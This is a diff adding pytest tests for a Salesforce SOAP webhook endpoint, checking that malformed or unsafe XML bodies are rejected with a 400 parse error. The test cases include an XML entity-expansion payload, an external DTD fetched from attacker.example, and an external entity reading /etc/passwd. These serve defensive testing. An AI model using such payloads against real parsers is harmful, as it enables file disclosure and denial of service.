@@ -64,6 +64,41 @@ def test_url_token_and_organization_checks(client):
                             headers={"Content-Type": "application/json"}).status_code == 415
 
 
+@pytest.mark.parametrize("name, change", [
+    ("entity expansion", lambda b: b.replace(b"<soapenv:Envelope", b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b '
+                                             b'"&a;&a;&a;&a;">]><soapenv:Envelope', 1).replace(b"<ActionId>", b"<ActionId>&b;", 1)),
+    ("external DTD", lambda b: b.replace(b"<soapenv:Envelope", b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">'
+                                         b"<soapenv:Envelope", 1)),
+    ("external entity", lambda b: b.replace(b"<soapenv:Envelope", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+                                            b"<soapenv:Envelope", 1).replace(b"<ActionId>", b"<ActionId>&e;", 1)),
+    ("truncated after OrganizationId", lambda b: b[:b.index(b"<Notification>") + 30]),
+    ("mismatched tag after OrganizationId", lambda b: b.replace(b"</sObject>", b"</sobject>", 1)),
+    ("unbound prefix after OrganizationId", lambda b: b.replace(b"<sf:Email>", b"<zz:Email>", 1)
+     .replace(b"</sf:Email>", b"</zz:Email>", 1)),
+    ("no notifications element", lambda b: b.replace(b"notifications", b"notes")),
+    ("notifications in another namespace", lambda b: b.replace(b"http://soap.sforce.com/2005/09/outbound", b"urn:other")),
+])
+def test_unsafe_or_malformed_soap_is_400_however_late_the_fault(name, change, client):
+    """The org check reads OrganizationId early, but the whole body is still checked at ingest."""
+    response = post(client, change(fixture_bytes("salesforce/outbound_message.xml")))
+    assert response.status_code == 400, name
+    assert json.loads(response.body)["error"] == "parse_error"
+
+
+def test_organization_id_is_read_as_the_worker_reads_it():
+    from chalicelib.providers.salesforce import OUTBOUND_NS, _notifications, _organization_id, _text
+
+    ns = 'xmlns="http://soap.sforce.com/2005/09/outbound"'
+    for body in [fixture_bytes("salesforce/outbound_message.xml"),
+                 f"<notifications {ns}><OrganizationId> 00D <b>y</b> tail</OrganizationId></notifications>".encode(),
+                 f"<a><notifications {ns}><x><OrganizationId>deep</OrganizationId></x>"
+                 f"<OrganizationId>direct</OrganizationId></notifications></a>".encode(),
+                 f"<a><notifications {ns}/><notifications {ns}><OrganizationId>2nd</OrganizationId>"
+                 f"</notifications></a>".encode(),
+                 f"<notifications {ns}><OrganizationId>a&amp;b&#65;</OrganizationId></notifications>".encode()]:
+        assert _organization_id(body) == _text(_notifications(body).find(f"{OUTBOUND_NS}OrganizationId"))
+
+
 def test_url_token_never_reaches_the_queue(client, hub):
     import boto3
 
